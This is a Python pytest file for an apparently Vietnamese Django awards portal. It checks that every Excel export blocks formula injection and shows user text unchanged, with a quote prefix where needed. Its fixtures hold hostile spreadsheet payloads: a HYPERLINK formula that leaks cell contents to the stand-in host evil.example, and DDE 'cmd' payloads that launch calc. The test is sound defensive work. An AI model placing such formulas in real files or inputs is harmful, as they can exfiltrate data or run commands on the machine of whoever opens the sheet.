"""Every .xlsx the portal offers, with text beginning like a formula in every field it shows: no formula cell."""

import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from awards.models import AwardTitle
from awards.services import scoring as scoring_services
from pacts.models import AuditEvent
from regions import services as region_services
from regions.models import Province, Unit
from tests.awards.factories import CSTD, FLAG, make_awards_world, make_table
from tests.awards.test_ranking_views import scored
from tests.awards.test_reports import register

pytestmark = pytest.mark.django_db

YEAR = 2024
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Xem hồ sơ")'
UNIT_NAMES = [LEAK, "+Sở Tư pháp tỉnh Cộng", "-Sở Tư pháp tỉnh Trừ", "@Sở Tư pháp tỉnh A Còng"]
SHORT_NAME = "=1+1"
REGION_NAME = "@SUM(1,2) Khu vực thi đua"
PROVINCE_NAME = "-2+3 Tỉnh Thử"
TITLE_NAME = "+cmd|' /C calc'!A0 Cờ thi đua"
PERSON_NAMES = ["=Nguyễn Thị Lan", "\tTrần Văn Hải"]
TABLE_NAME = "=Bảng tiêu chí chấm điểm"
GRADE = "-Xuất sắc"
AUDIT_TEXT = "=2+5+cmd|' /C calc'!A0"

# Each export the portal offers (its URL's name), and the texts from users it must show unchanged.
EXPECTED = {
    "regions:unit_import_template": [PROVINCE_NAME],
    "regions:leader_import_template": [],
    "regions:unit_export": [*UNIT_NAMES, SHORT_NAME, PROVINCE_NAME, REGION_NAME],
    "regions:roster_export": [*UNIT_NAMES, REGION_NAME, PROVINCE_NAME],
    "pacts:pact_audit_export": [AUDIT_TEXT],
    "awards:report_xlsx": [*UNIT_NAMES, REGION_NAME, TITLE_NAME, *PERSON_NAMES],
    "awards:ranking_xlsx": [*UNIT_NAMES, TABLE_NAME, GRADE],
    "awards:table_template": [],
    "reports:country_xlsx": [TITLE_NAME, REGION_NAME],
    "reports:region_xlsx": [TITLE_NAME],
    "reports:unit_xlsx": [TITLE_NAME],
}


def _xlsx_url_names(resolver: URLResolver = None, namespace: str = "") -> set[str]:
    """The names of every URL pattern whose route ends in .xlsx: the portal's exports."""
    names = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= _xlsx_url_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx"):
            names.add(f"{namespace}{pattern.name}")
    return names


@pytest.fixture
def hostile(ministry_user):
    """A region-year whose every text from users begins with =, +, -, @ or a tab."""
    world = make_awards_world(len(UNIT_NAMES), year=YEAR)
    province = Province.objects.create(code="tinh-thu", name=PROVINCE_NAME, valid_from=date(2000, 1, 1))
    for unit, name in zip(world.units, UNIT_NAMES, strict=True):
        region_services.unit_rename(unit=unit, name=name, short_name=SHORT_NAME, effective=date(2001, 1, 1))
    Unit.objects.filter(pk__in=[unit.pk for unit in world.units]).update(province=province)
    region_services.region_rename(region=world.campaign.region, name=REGION_NAME, effective=date(2013, 1, 1))
    AwardTitle.objects.filter(code=FLAG).update(name=TITLE_NAME)
    for unit in world.units:
        register(world, unit, FLAG)
    register(world, world.units[1], CSTD, people=[(name, "Chuyên viên") for name in PERSON_NAMES])

    table = make_table(YEAR, publish=False, name=TABLE_NAME)
    scoring_services.table_set_thresholds(table=table, thresholds=[(GRADE, Decimal("10"))])
    table = scoring_services.table_publish(table=table)
    scored(table, world.units[0], world.leaders[0], {"1.1": "20", "1.2": "10", "2.1": "15"})

    pact = world.campaign.pacts.first()
    AuditEvent.objects.create(
        pact=pact,
        campaign=world.campaign,
        action=AuditEvent.Action.COMMENTED,
        actor_name=AUDIT_TEXT,
        unit_name=AUDIT_TEXT,
        at=timezone.now(),
        user_agent=AUDIT_TEXT,
        detail=AUDIT_TEXT,
    )
    urls = {
        "regions:unit_import_template": reverse("regions:unit_import_template"),
        "regions:leader_import_template": reverse("regions:leader_import_template"),
        "regions:unit_export": reverse("regions:unit_export") + f"?year={YEAR}",
        "regions:roster_export": reverse("regions:roster_export", args=[world.campaign.region.slug, YEAR]),
        "pacts:pact_audit_export": reverse("pacts:pact_audit_export", args=[pact.pk]),
        "awards:report_xlsx": reverse("awards:report_xlsx") + f"?year={YEAR}",
        "awards:ranking_xlsx": reverse("awards:ranking_xlsx", args=[table.pk, world.campaign.region.pk]),
        "awards:table_template": reverse("awards:table_template"),
        "reports:country_xlsx": reverse("reports:country_xlsx", args=[YEAR]),
        "reports:region_xlsx": reverse("reports:region_xlsx", args=[YEAR, world.campaign.region.slug]),
        "reports:unit_xlsx": reverse("reports:unit_xlsx", args=[YEAR, world.units[0].pk]),
    }
    return urls


def test_the_test_downloads_every_xlsx_the_portal_offers():
    assert _xlsx_url_names() == set(EXPECTED)


def test_no_export_holds_a_formula_and_each_shows_the_text_unchanged(client, hostile, ministry_user):
    client.force_login(ministry_user)  # the ministry may download every export
    for name, url in hostile.items():
        response = client.get(url)
        assert response.status_code == 200, name
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        texts = set()
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{name}: {sheet.title}!{cell.coordinate} = {cell.value!r}"
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
                        # Excel's hidden apostrophe, so that editing the cell does not make it a formula either.
                        assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
        missing = [text for text in EXPECTED[name] if not any(text in shown for shown in texts)]
        assert not missing, f"{name} does not show {missing}"
